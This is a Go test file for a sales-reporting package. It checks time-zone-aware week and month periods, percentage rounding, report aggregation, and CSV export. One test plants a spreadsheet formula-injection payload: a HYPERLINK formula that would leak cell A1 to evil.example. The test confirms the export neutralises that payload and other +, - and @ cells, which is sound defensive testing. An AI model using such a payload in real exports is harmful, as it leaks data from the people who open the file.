@@ -1,0 +1,291 @@
+package salesbot_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"salesbot"
+)
+
+func TestPeriodFor(t *testing.T) {
+	shanghai, newYork := mustLoc(t, "Asia/Shanghai"), mustLoc(t, "America/New_York")
+	cases := []struct {
+		name, kind string
+		now        time.Time
+		loc        *time.Location
+		from       time.Time
+	}{
+		{"monday morning: the week so far is that morning", "week",
+			time.Date(2026, 11, 23, 10, 0, 0, 0, shanghai), shanghai, time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai)},
+		{"friday: the week from monday", "Week",
+			time.Date(2026, 11, 27, 17, 30, 0, 0, shanghai), shanghai, time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai)},
+		{"sunday night is still the same week", " week ",
+			time.Date(2026, 11, 29, 23, 59, 0, 0, shanghai), shanghai, time.Date(2026, 11, 23, 0, 0, 0, 0, shanghai)},
+		{"the reader's monday while it is still sunday in UTC", "week",
+			time.Date(2026, 11, 29, 20, 0, 0, 0, time.UTC), shanghai, time.Date(2026, 11, 30, 0, 0, 0, 0, shanghai)},
+		{"a week across the start of daylight saving time", "week",
+			time.Date(2026, 3, 11, 12, 0, 0, 0, newYork), newYork, time.Date(2026, 3, 9, 0, 0, 0, 0, newYork)},
+		{"a week that began last month and last year", "week",
+			time.Date(2027, 1, 1, 9, 0, 0, 0, shanghai), shanghai, time.Date(2026, 12, 28, 0, 0, 0, 0, shanghai)},
+		{"the month so far", "month",
+			time.Date(2026, 11, 23, 10, 0, 0, 0, shanghai), shanghai, time.Date(2026, 11, 1, 0, 0, 0, 0, shanghai)},
+		{"the first of the month", "MONTH",
+			time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai), shanghai, time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai)},
+		{"the reader's new month while UTC is still in the old one", "month",
+			time.Date(2026, 11, 30, 17, 0, 0, 0, time.UTC), shanghai, time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai)},
+		{"no location is UTC", "month",
+			time.Date(2026, 2, 14, 8, 0, 0, 0, time.UTC), nil, time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			p, err := salesbot.PeriodFor(c.kind, c.now, c.loc)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !p.From.Equal(c.from) || !p.To.Equal(c.now) {
+				t.Errorf("period %v – %v, want %v – %v", p.From, p.To, c.from, c.now)
+			}
+			if want := c.loc; want != nil && p.From.Location() != want {
+				t.Errorf("from is in %v, want the reader's %v", p.From.Location(), want)
+			}
+			if !p.Contains(p.From) || !p.Contains(p.To) || p.Contains(p.From.Add(-time.Nanosecond)) || p.Contains(p.To.Add(time.Nanosecond)) {
+				t.Errorf("period %v does not contain exactly its ends", p)
+			}
+		})
+	}
+	for _, kind := range []string{"year", "", "weeks", "7d"} {
+		_, err := salesbot.PeriodFor(kind, time.Now(), time.UTC)
+		wantCode(t, err, salesbot.EINVALID)
+		wantMessage(t, err, "week or month")
+	}
+}
+
+func TestRepTouchesPercent(t *testing.T) {
+	cases := []struct {
+		a, m, n    int
+		pa, pm, pn int
+	}{
+		{0, 0, 0, 0, 0, 0},
+		{1, 1, 1, 34, 33, 33},
+		{2, 1, 0, 67, 33, 0},
+		{1, 2, 4, 14, 29, 57},
+		{0, 5, 0, 0, 100, 0},
+		{1, 1, 2, 25, 25, 50},
+		{3, 3, 1, 43, 43, 14},
+	}
+	for _, c := range cases {
+		tt := salesbot.RepTouches{A: c.a, Maintenance: c.m, New: c.n}
+		a, m, n := tt.Percent()
+		if a != c.pa || m != c.pm || n != c.pn {
+			t.Errorf("%d/%d/%d: %d%% %d%% %d%%, want %d%% %d%% %d%%", c.a, c.m, c.n, a, m, n, c.pa, c.pm, c.pn)
+		}
+		if tt.Total() > 0 && a+m+n != 100 {
+			t.Errorf("%d/%d/%d: percentages add up to %d", c.a, c.m, c.n, a+m+n)
+		}
+	}
+}
+
+// reportFixture is a team's week: the period is Monday 00:00 to Friday noon.
+func reportFixture() ([]*salesbot.Lead, []salesbot.Change, salesbot.Period) {
+	p := salesbot.Period{From: time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC), To: time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)}
+	before := p.From.AddDate(0, -2, 0)
+	mon, tue, wed, thu := p.From.Add(10*time.Hour), p.From.Add(34*time.Hour), p.From.Add(58*time.Hour), p.From.Add(82*time.Hour)
+	lead := func(id, owner string, g salesbot.Grade, st salesbot.Stage, created time.Time) *salesbot.Lead {
+		return &salesbot.Lead{ID: id, Company: id, Owner: owner, CreatedBy: owner, Grade: g, Stage: st, CreatedAt: created}
+	}
+	leads := []*salesbot.Lead{
+		lead("old-a", "U1", salesbot.GradeA, salesbot.StageDemo, before),
+		lead("old-c", "U1", salesbot.GradeA, salesbot.StageDiscovery, before), // C until Wednesday
+		lead("明达机械有限公司", "U2", salesbot.GradeB, salesbot.StageLead, tue),
+		lead("won", "U2", salesbot.GradeA, salesbot.StageWon, before),
+		lead("lost", "U1", salesbot.GradeC, salesbot.StageLost, before),
+		lead("idle", "U3", salesbot.GradeD, salesbot.StageLead, before),
+		lead("fresh", "U1", salesbot.GradeC, salesbot.StageLead, mon),
+		lead("at-the-start", "U1", salesbot.GradeD, salesbot.StageLead, p.From), // registered at 00:00 sharp
+		lead("too-late", "U1", salesbot.GradeD, salesbot.StageLead, p.To.Add(time.Second)),
+	}
+	leads[2].Owner = "U1" // registered by U2, assigned to U1 since
+	visit := func(id, by string, at time.Time, date string) salesbot.Change {
+		return salesbot.Change{LeadID: id, Company: id, Kind: salesbot.ChangeVisit, By: by, At: at, To: date}
+	}
+	changes := []salesbot.Change{
+		{LeadID: "old-c", Company: "old-c", Kind: salesbot.ChangeGrade, By: "U1", At: before.Add(time.Hour), From: "D", To: "C"}, // before the period
+		visit("old-a", "U1", mon, "2026-11-23"),
+		visit("old-c", "U1", tue, "2026-11-24"), // still C: maintenance
+		{LeadID: "old-c", Company: "old-c", Kind: salesbot.ChangeGrade, By: "U1", At: wed, From: "C", To: "A", Reason: "selection starts"},
+		visit("old-c", "U1", thu, "2026-11-26"), // A now
+		{LeadID: "明达机械有限公司", Company: "明达机械有限公司", Kind: salesbot.ChangeCreated, By: "U2", At: tue, To: "B"},
+		visit("明达机械有限公司", "U2", wed, "2026-11-25"),
+		visit("明达机械有限公司", "U2", thu, "2026-11-20"), // logged late, dated before registration
+		visit("fresh", "U1", mon, "2026-11-23"),
+		{LeadID: "won", Company: "won", Kind: salesbot.ChangeGrade, By: "U9", At: mon, From: "A", To: "B"},
+		{LeadID: "won", Company: "won", Kind: salesbot.ChangeWon, By: "U2", At: thu, From: "negotiation", To: "won"},
+		{LeadID: "lost", Company: "lost", Kind: salesbot.ChangeLost, By: "U1", At: wed, From: "demo", To: "lost", Reason: "budget frozen"},
+		visit("gone", "U4", tue, "2026-11-24"),                                                          // a lead not known any more
+		visit("old-a", "U1", p.To.Add(time.Minute), "2026-11-27"),                                       // after the period
+		visit("old-a", "U1", p.From.Add(-time.Nanosecond), "2026-11-22"),                                // before it
+		{LeadID: "old-a", Kind: salesbot.ChangeStage, By: "U1", At: tue, From: "discovery", To: "demo"}, // not reported
+	}
+	// The store gives changes oldest first; BuildReport must not rely on it.
+	slices.Reverse(changes)
+	return leads, changes, p
+}
+
+func TestBuildReport(t *testing.T) {
+	leads, changes, p := reportFixture()
+	r := salesbot.BuildReport(leads, changes, p)
+
+	var names []string
+	for _, l := range r.NewLeads {
+		names = append(names, l.Company)
+	}
+	if want := []string{"at-the-start", "fresh", "明达机械有限公司"}; !slices.Equal(names, want) {
+		t.Fatalf("new leads %q, want %q", names, want)
+	}
+	md := r.NewLeads[2]
+	if md.RegisteredBy != "U2" || md.Owner != "U1" || md.Grade != salesbot.GradeB || md.Stage != salesbot.StageLead ||
+		md.FirstTouch != day(2026, 11, 20) || !md.Registered.Equal(p.From.Add(34*time.Hour)) {
+		t.Errorf("明达 line %+v", md)
+	}
+	if r.NewLeads[0].FirstTouch != (salesbot.Date{}) {
+		t.Errorf("an untouched lead has first touch %v", r.NewLeads[0].FirstTouch)
+	}
+
+	if len(r.GradeMoves) != 2 || r.GradeMoves[0].Company != "won" || r.GradeMoves[0].Up ||
+		r.GradeMoves[1].Company != "old-c" || !r.GradeMoves[1].Up || r.GradeMoves[1].Reason != "selection starts" || r.Upgrades() != 1 {
+		t.Errorf("grade moves %+v", r.GradeMoves)
+	}
+	if len(r.Won) != 1 || r.Won[0].Company != "won" || r.Won[0].By != "U2" {
+		t.Errorf("won %+v", r.Won)
+	}
+	if len(r.Lost) != 1 || r.Lost[0].Reason != "budget frozen" {
+		t.Errorf("lost %+v", r.Lost)
+	}
+
+	// Open now: old-a, old-c, 明达, idle, fresh, at-the-start, too-late.
+	if r.Open != 7 || r.Pipeline[salesbot.GradeA][salesbot.StageDemo] != 1 || r.Pipeline[salesbot.GradeA][salesbot.StageDiscovery] != 1 ||
+		r.Pipeline[salesbot.GradeD][salesbot.StageLead] != 3 || r.Pipeline[salesbot.GradeB][salesbot.StageLead] != 1 || len(r.Pipeline[salesbot.GradeC]) != 1 {
+		t.Errorf("pipeline %v, open %d", r.Pipeline, r.Open)
+	}
+
+	want := []salesbot.RepTouches{
+		{Rep: "U1", A: 2, Maintenance: 1, New: 1}, // old-a (A), old-c (C then A), fresh (new)
+		{Rep: "U2", New: 2},                       // both on the lead registered this week
+		{Rep: "U3"},                               // owns an open lead, touched nothing
+		{Rep: "U4", Maintenance: 1},               // a lead not known any more: not A, not new
+	}
+	if !slices.Equal(r.Touches, want) {
+		t.Errorf("touches %+v\nwant    %+v", r.Touches, want)
+	}
+	if r.Visits() != 7 {
+		t.Errorf("visits %d, want 7", r.Visits())
+	}
+
+	empty := salesbot.BuildReport(nil, nil, p)
+	if len(empty.NewLeads)+len(empty.GradeMoves)+len(empty.Won)+len(empty.Lost)+len(empty.Touches)+empty.Open != 0 {
+		t.Errorf("empty report %+v", empty)
+	}
+}
+
+// readCSV parses a report's CSV after its byte-order mark, as sections
+// by title: each a header and rows.
+func readCSV(t *testing.T, b []byte) map[string][][]string {
+	t.Helper()
+	if !bytes.HasPrefix(b, []byte{0xEF, 0xBB, 0xBF}) {
+		t.Fatalf("no UTF-8 byte-order mark: % x", b[:min(len(b), 8)])
+	}
+	body := b[3:]
+	if bytes.Contains(bytes.ReplaceAll(body, []byte("\r\n"), nil), []byte("\n")) {
+		t.Errorf("a line ends in a bare LF")
+	}
+	sections := map[string][][]string{}
+	for i, part := range strings.Split(string(body), "\r\n\r\n") {
+		rd := csv.NewReader(strings.NewReader(part))
+		rd.FieldsPerRecord = -1
+		records, err := rd.ReadAll()
+		if err != nil {
+			t.Fatalf("section %d does not parse: %v\n%s", i, err, part)
+		}
+		if len(records) < 2 || len(records[0]) != 1 {
+			t.Fatalf("section %d has no title and header: %q", i, records)
+		}
+		sections[records[0][0]] = records[1:]
+	}
+	return sections
+}
+
+func TestReportCSV(t *testing.T) {
+	shanghai := mustLoc(t, "Asia/Shanghai")
+	leads, changes, p := reportFixture()
+	p.From, p.To = p.From.In(shanghai), p.To.In(shanghai)
+	hostile := `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
+	leads = append(leads,
+		&salesbot.Lead{ID: "h", Company: hostile, Owner: "U2", CreatedBy: "U2", Grade: salesbot.GradeC, Stage: salesbot.StageLead, CreatedAt: p.From.Add(time.Hour)},
+		&salesbot.Lead{ID: "p", Company: "+86 Trading", Owner: "U2", CreatedBy: "U2", Grade: salesbot.GradeC, Stage: salesbot.StageLead, CreatedAt: p.From.Add(time.Hour)})
+	changes = append(changes, salesbot.Change{LeadID: "h", Company: hostile, Kind: salesbot.ChangeLost, By: "U2", At: p.From.Add(2 * time.Hour), Reason: "-1 support, @ceo said no"})
+	r := salesbot.BuildReport(leads, changes, p)
+	r.Names = map[string]string{"U1": "Wang Li 王丽", "U2": "@lee"}
+
+	s := readCSV(t, r.CSV())
+	titles := []string{"Sales report", "New leads", "Grade changes", "Won", "Lost", "Pipeline (open leads now)", "Touches by rep"}
+	if len(s) != len(titles) {
+		t.Fatalf("sections %v", s)
+	}
+	cases := []struct {
+		section string
+		row     int // 0 is the header
+		want    []string
+	}{
+		{"Sales report", 0, []string{"From", "To", "Time zone"}},
+		{"Sales report", 1, []string{"2026-11-23 08:00", "2026-11-27 20:00", "Asia/Shanghai"}},
+		{"New leads", 0, []string{"Company", "Registered by", "Owner", "Grade", "Stage", "Registered", "First touch"}},
+		{"New leads", 1, []string{"at-the-start", "Wang Li 王丽", "Wang Li 王丽", "D", "Lead", "2026-11-23 08:00", ""}},
+		{"New leads", 2, []string{"'+86 Trading", "'@lee", "'@lee", "C", "Lead", "2026-11-23 09:00", ""}},
+		{"New leads", 3, []string{"'" + hostile, "'@lee", "'@lee", "C", "Lead", "2026-11-23 09:00", ""}},
+		{"New leads", 5, []string{"明达机械有限公司", "'@lee", "Wang Li 王丽", "B", "Lead", "2026-11-24 18:00", "2026-11-20"}},
+		{"Grade changes", 0, []string{"Company", "From", "To", "Direction", "By", "When", "Reason"}},
+		{"Grade changes", 1, []string{"won", "A", "B", "down", "U9", "2026-11-23 18:00", ""}},
+		{"Grade changes", 2, []string{"old-c", "C", "A", "up", "Wang Li 王丽", "2026-11-25 18:00", "selection starts"}},
+		{"Won", 1, []string{"won", "'@lee", "2026-11-26 18:00"}},
+		{"Lost", 0, []string{"Company", "Closed by", "When", "Reason"}},
+		{"Lost", 1, []string{"'" + hostile, "'@lee", "2026-11-23 10:00", "'-1 support, @ceo said no"}},
+		{"Lost", 2, []string{"lost", "Wang Li 王丽", "2026-11-25 18:00", "budget frozen"}},
+		{"Pipeline (open leads now)", 0, []string{"Grade", "Lead", "First visit", "Discovery", "Demo", "Quote", "Objections", "Negotiation", "Total"}},
+		{"Pipeline (open leads now)", 1, []string{"A", "0", "0", "1", "1", "0", "0", "0", "2"}},
+		{"Pipeline (open leads now)", 3, []string{"C", "3", "0", "0", "0", "0", "0", "0", "3"}},
+		{"Pipeline (open leads now)", 5, []string{"Total", "7", "0", "1", "1", "0", "0", "0", "9"}},
+		{"Touches by rep", 0, []string{"Rep", "A leads", "B/C/D maintenance", "New leads", "Total", "A leads %", "Maintenance %", "New leads %"}},
+		{"Touches by rep", 1, []string{"Wang Li 王丽", "2", "1", "1", "4", "50", "25", "25"}},
+		{"Touches by rep", 3, []string{"U3", "0", "0", "0", "0", "0", "0", "0"}},
+	}
+	for _, c := range cases {
+		rows := s[c.section]
+		if c.row >= len(rows) {
+			t.Errorf("%s: no row %d in %q", c.section, c.row, rows)
+			continue
+		}
+		if !slices.Equal(rows[c.row], c.want) {
+			t.Errorf("%s row %d:\n got %q\nwant %q", c.section, c.row, rows[c.row], c.want)
+		}
+	}
+	// No cell of any section starts a formula.
+	for title, rows := range s {
+		for _, row := range rows {
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q would be read as a formula", title, cell)
+				}
+			}
+		}
+	}
+
+	// An empty report still has every table, with its header.
+	empty := readCSV(t, salesbot.BuildReport(nil, nil, p).CSV())
+	if len(empty) != len(titles) || len(empty["New leads"]) != 1 || len(empty["Pipeline (open leads now)"]) != 6 {
+		t.Errorf("empty report CSV %q", empty)
+	}
+}
